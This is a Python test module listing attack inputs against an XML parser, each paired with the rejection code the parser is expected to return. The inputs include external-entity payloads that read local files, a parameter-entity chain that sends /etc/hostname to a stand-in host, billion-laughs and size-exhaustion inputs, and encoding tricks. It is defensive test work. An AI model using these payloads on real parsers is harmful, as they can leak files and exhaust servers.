"""Attacks on the XML parser: before anything is signed or read, the bytes themselves are the weapon."""

from __future__ import annotations

import codecs
from pathlib import Path

from schemas import xmldoc
from tests.attacks.corpus import INERT, TAKEN, Case, Category, cases
from tests.attacks.soap import sent, signed

SECRET = Path(__file__)  # a file that is there: its text must not come back


def _parse(body: bytes, charset: str | None = None) -> str:
    root = xmldoc.parse(body, charset=charset)
    text = "".join(root.itertext())
    return INERT if "import" not in text and len(text) < 1_000 else TAKEN


def _dtd(inside: str, use: str = "&x;") -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE a [{inside}]><a>{use}</a>'.encode()


def laughs(levels: int = 12) -> bytes:
    rows = ["<!ENTITY l0 'ha'>"]
    rows += [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, levels)]
    return _dtd("".join(rows), f"&l{levels - 1};")


def _include(href: str) -> bytes:
    return f"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include parse='text' href='{href}'/></a>".encode()


def _prefixes(count: int) -> bytes:
    return b"<a " + b" ".join(b"xmlns:p%d='urn:%d'" % (n, n) for n in range(count)) + b"/>"


def _attributes(count: int) -> bytes:
    return b"<a " + b" ".join(b"b%d='x'" % n for n in range(count)) + b"/>"


def _nested_prefixes(count: int) -> bytes:
    return b"".join(b"<a xmlns:p%d='urn:%d'>" % (n, n) for n in range(count)) + b"</a>" * count


FORBIDDEN, COUNTED = "LT-XML-003", "LT-XML-002"
PARSER = {
    "DOCTYPE alone": (lambda: _parse(b"<!DOCTYPE a><a/>"), FORBIDDEN),
    "DOCTYPE of a file": (lambda: _parse(b"<!DOCTYPE a SYSTEM 'file:///etc/hostname'><a/>"), FORBIDDEN),
    "DOCTYPE of a web address": (lambda: _parse(b"<!DOCTYPE a SYSTEM 'http://x.example/a.dtd'><a/>"), FORBIDDEN),
    "internal entity": (lambda: _parse(_dtd("<!ENTITY x 'y'>")), FORBIDDEN),
    "external entity of a file": (lambda: _parse(_dtd(f"<!ENTITY x SYSTEM '{SECRET.as_uri()}'>")), FORBIDDEN),
    "external entity of a web address": (lambda: _parse(_dtd("<!ENTITY x SYSTEM 'http://127.0.0.1:1/'>")), FORBIDDEN),
    "parameter entity that carries out": (
        lambda: _parse(_dtd("<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % g SYSTEM 'http://x.example/%f;'>%g;", "")), FORBIDDEN),
    "billion laughs": (lambda: _parse(laughs()), FORBIDDEN),
    "quadratic blow-up": (lambda: _parse(_dtd(f"<!ENTITY x '{'y' * 50_000}'>", "&x;" * 10_000)), FORBIDDEN),
    "entity that holds itself": (lambda: _parse(_dtd("<!ENTITY x '&x;'>")), FORBIDDEN),
    "default attribute by DTD": (lambda: _parse(_dtd("<!ATTLIST a Id CDATA 'body'>", "")), FORBIDDEN),
    "attribute made an id by DTD": (lambda: _parse(_dtd("<!ATTLIST a x ID #IMPLIED>", "")), FORBIDDEN),
    "DOCTYPE in UTF-16": (lambda: _parse(codecs.BOM_UTF16_LE + _dtd("<!ENTITY x 'y'>").decode().encode("utf-16-le")), "LT-XML LT-TEXT LT-XML-003"),
    "DOCTYPE in UTF-7": (lambda: _parse(b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a><a/>"), "LT-TEXT-001 LT-XML-005"),
    "DOCTYPE behind the declaration's white space": (lambda: _parse(b"<?xml version='1.0'?>" + b" " * 100_000 + b"<!DOCTYPE a><a/>"), FORBIDDEN),
    "DOCTYPE in lower case": (lambda: _parse(b"<!doctype a><a/>"), "LT-XML-005"),
    "undeclared entity": (lambda: _parse(b"<a>&nbsp;</a>"), "LT-XML-005"),
    "XInclude of a file": (lambda: _parse(_include(SECRET.as_uri())), INERT),
    "XInclude of a web address": (lambda: _parse(_include("http://127.0.0.1:1/")), INERT),
    "xsi:schemaLocation of a web address": (
        lambda: _parse(b"<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:x http://127.0.0.1:1/x.xsd'/>"), INERT),
    "xml-stylesheet of a file": (lambda: _parse(b"<?xml-stylesheet href='file:///etc/hostname' type='text/xsl'?><a/>"), INERT),
    "UTF-16 without its mark": (lambda: _parse("<a>x</a>".encode("utf-16-le")), "LT-TEXT-003"),
    "UTF-32": (lambda: _parse("<a>x</a>".encode("utf-32")), "LT-XML-005 LT-TEXT-001"),
    "UTF-8 declared, Latin-1 sent": (lambda: _parse("<a>\xe9</a>".encode("latin-1")), "LT-TEXT-002 LT-TEXT-001 LT-TEXT-003"),
    "overlong UTF-8": (lambda: _parse(b"<a>\xc0\xbcb/\xc0\xbe</a>"), "LT-TEXT-002 LT-TEXT-001 LT-TEXT-003"),
    "surrogates in UTF-8": (lambda: _parse(b"<a>\xed\xa0\x80</a>"), "LT-TEXT-002 LT-TEXT-001 LT-TEXT-003"),
    "EBCDIC": (lambda: _parse("<?xml version='1.0' encoding='IBM037'?><a/>".encode("cp037")), "LT-XML-005 LT-TEXT-001 LT-TEXT-002 LT-TEXT-003"),
    "a charset the channel invents": (lambda: _parse(b"<a/>", "x-user-defined"), "LT-TEXT-001"),
    "NUL": (lambda: _parse(b"<a>x\0y</a>"), "LT-XML-005 LT-TEXT-002"),
    "reference to NUL": (lambda: _parse(b"<a>&#0;</a>"), "LT-XML-005"),
    "reference to a surrogate": (lambda: _parse(b"<a>&#xD800;</a>"), "LT-XML-005"),
    "depth 65": (lambda: _parse(b"<a>" * 65 + b"</a>" * 65), "LT-XML-004"),
    "depth 100 000": (lambda: _parse(b"<a>" * 100_000 + b"</a>" * 100_000), "LT-XML-004 LT-XML-002"),
    "attributes of one element": (lambda: _parse(_attributes(300)), COUNTED),
    "attributes in the million": (lambda: _parse(_attributes(700_000)), COUNTED),
    "the same attribute twice": (lambda: _parse(b"<a b='1' b='2'/>"), "LT-XML-005"),
    "the same attribute by two prefixes": (lambda: _parse(b"<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'/>"), "LT-XML-005"),
    "prefixes at one place": (lambda: _parse(_prefixes(100)), COUNTED),
    "prefixes nested": (lambda: _parse(b"<r>" + _nested_prefixes(60) * 40 + b"</r>"), COUNTED),
    "prefixes in the hundred thousand": (lambda: _parse(_prefixes(150_000)), COUNTED),
    "elements in the million": (lambda: _parse(b"<r>" + b"<a/>" * 1_000_000 + b"</r>"), COUNTED),
    "huge text": (lambda: _parse(b"<a>" + b"x" * 11_000_000 + b"</a>"), "LT-XML-001"),
    "huge text node just below the size": (lambda: _parse(b"<a>" + b"x" * 10_400_000 + b"</a>"), "LT-XML-007"),
    "huge attribute": (lambda: _parse(b"<a b='" + b"x" * 10_400_000 + b"'/>"), "LT-XML-007"),
    "huge element name": (lambda: _parse(b"<" + b"a" * 1_000_000 + b"/>"), "LT-XML-005 LT-XML-007"),
    "unfinished": (lambda: _parse(b"<a><b>"), "LT-XML-005"),
    "two roots": (lambda: _parse(b"<a/><b/>"), "LT-XML-005"),
    "something after the root": (lambda: _parse(b"<a/>x"), "LT-XML-005"),
    "nothing": (lambda: _parse(b""), "LT-XML-006"),
    "XML 1.1": (lambda: _parse(b"<?xml version='1.1'?><a>&#1;</a>"), "LT-XML-005"),
    "a signed message with a DOCTYPE before it": (lambda: sent(b"<!DOCTYPE a [<!ENTITY x 'y'>]>" + signed()), "guard"),
    "a signed message in UTF-16": (lambda: sent(codecs.BOM_UTF16_LE + signed().decode().encode("utf-16-le")), "guard"),
    "a signed message of another declared charset": (
        lambda: sent(b"<?xml version='1.0' encoding='windows-1258'?>" + signed()), "parse"),
}  # fmt: skip

CASES: list[Case] = cases(Category.PARSER, PARSER)
